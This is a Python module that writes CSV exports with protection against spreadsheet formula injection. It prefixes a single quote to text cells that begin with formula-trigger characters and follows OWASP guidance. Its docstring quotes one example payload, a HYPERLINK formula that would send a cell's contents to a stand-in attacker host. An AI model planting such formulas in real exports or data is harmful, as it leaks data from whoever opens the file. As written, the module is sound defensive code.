"""The one CSV writer of every file reviewapp hands out: the record, vote, history and
agreement exports, the PRISMA template and the commands' CSV output. Pure: no Django.

A spreadsheet (Excel, LibreOffice Calc, Google Sheets) opening a CSV file runs a cell that
begins with `=`, `+`, `-` or `@` as a formula, and some also a cell that begins with a tab or
a carriage return, or with spaces before such a character. A record title or a reviewer's note
like `=HYPERLINK("http://evil.example/?x="&A1,"click")` would then run on the lead's machine.
As OWASP recommends (CSV Injection), such a text cell is written with a single quote in front,
which spreadsheets read as "this is text" and do not show: `'=HYPERLINK(…)`. Quoting and
doubled double quotes (RFC 4180) come from the csv module, so a value cannot open a new cell.

What is text and what is a number is decided by type, never by looking at the text: an int,
a float or a Decimal is written as it is (a kappa of -0.25 stays a number a spreadsheet can
compute with), while every other value is written as text and neutralised when it begins
dangerously, even text that looks like a number ("-0.25" from a record's field becomes
`'-0.25`). Callers pass numbers as numbers.
"""
import csv
import io
from collections.abc import Iterable, Iterator
from decimal import Decimal

# First characters that make a spreadsheet read a cell as a formula: OWASP's list, with NUL
# as OWASP's ASVS (1.2.10) adds.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\0")
NUMBER_TYPES = (int, float, Decimal)


def cell(value):
    """Return `value` as a CSV cell: numbers as they are, None as empty, anything else as
    text, with a single quote in front when it would start a formula."""
    if value is None:
        return ""
    if isinstance(value, NUMBER_TYPES):
        return value
    text = str(value)
    if _starts_a_formula(text):
        return "'" + text
    return text


def _starts_a_formula(text):
    if not text:
        return False
    if text[0] in FORMULA_TRIGGERS:
        return True
    # Spreadsheets that trim leading spaces or line breaks on import (LibreOffice's "trim
    # spaces", Google Sheets) then see the trigger first.
    stripped = text.lstrip()
    return stripped != text and stripped[:1] in FORMULA_TRIGGERS


class SafeWriter:
    """A csv.writer whose every cell goes through `cell`."""

    def __init__(self, out, **fmtparams):
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, row: Iterable):
        return self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]):
        for row in rows:
            self.writerow(row)


def writer(out, **fmtparams) -> SafeWriter:
    """Return a writer like csv.writer(out, **fmtparams) that neutralises formulas."""
    return SafeWriter(out, **fmtparams)


def stream(rows: Iterable[Iterable], *, rows_per_chunk=500, **fmtparams) -> Iterator[str]:
    """Yield the CSV text of `rows` (the header is the first row), some hundred rows at a
    time: for streamed downloads, so a large export never sits whole in memory."""
    buffer = io.StringIO()
    out = writer(buffer, **fmtparams)
    for count, row in enumerate(rows, 1):
        out.writerow(row)
        if count % rows_per_chunk == 0:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    if buffer.tell():
        yield buffer.getvalue()
